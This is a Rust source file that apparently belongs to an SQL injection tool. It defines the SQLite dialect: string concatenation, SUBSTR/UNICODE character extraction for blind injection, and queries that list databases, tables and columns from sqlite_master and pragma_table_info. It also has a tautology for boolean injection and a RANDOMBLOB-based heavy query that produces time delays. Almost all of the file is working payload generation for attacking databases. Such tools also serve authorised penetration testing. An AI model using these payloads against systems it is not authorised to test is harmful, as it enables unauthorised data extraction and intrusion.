use super::{Capabilities, Dialect};
use crate::sqli::core::enums::DBMS;

#[derive(Debug, Clone, Copy, Default)]
pub struct Sqlite;

impl Dialect for Sqlite {
    fn dbms(&self) -> DBMS {
        DBMS::SQLite
    }

    fn concatenate(&self, parts: &[&str]) -> String {
        parts.join("||")
    }

    fn substring(&self, expr: &str, start: usize, length: usize) -> String {
        format!("SUBSTR(({}),{},{})", expr, start, length)
    }

    fn ascii(&self, expr: &str) -> String {
        format!("UNICODE({})", expr)
    }

    fn version_query(&self) -> &'static str {
        "SQLITE_VERSION()"
    }

    fn current_user_query(&self) -> &'static str {
        "''"
    }

    fn current_db_query(&self) -> &'static str {
        "'main'"
    }

    fn hostname_query(&self) -> &'static str {
        "''"
    }

    fn databases_query(&self) -> String {
        "SELECT GROUP_CONCAT(name,'|') FROM pragma_database_list".to_string()
    }

    fn tables_query(&self, _database: &str) -> String {
        "SELECT GROUP_CONCAT(name,'|') FROM sqlite_master WHERE type='table'".to_string()
    }

    fn columns_query(&self, _database: &str, table: &str) -> String {
        format!(
            "SELECT GROUP_CONCAT(name,'|') FROM pragma_table_info({})",
            self.quote_string(table)
        )
    }

    fn sleep_function(&self, _seconds: u64) -> Option<String> {
        None
    }

    fn heavy_query(&self, seconds: u64) -> String {
        format!(
            "(LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({})))))",
            seconds * 50_000_000
        )
    }

    fn capabilities(&self) -> Capabilities {
        Capabilities {
            stacked_queries: false,
            error_based: false,
            union: true,
            file_io: false,
            os_exec: false,
            subqueries: true,
            case_when: true,
            limit_offset: true,
        }
    }

    fn tautology(&self) -> &'static str {
        "SQLITE_VERSION()=SQLITE_VERSION()"
    }
}
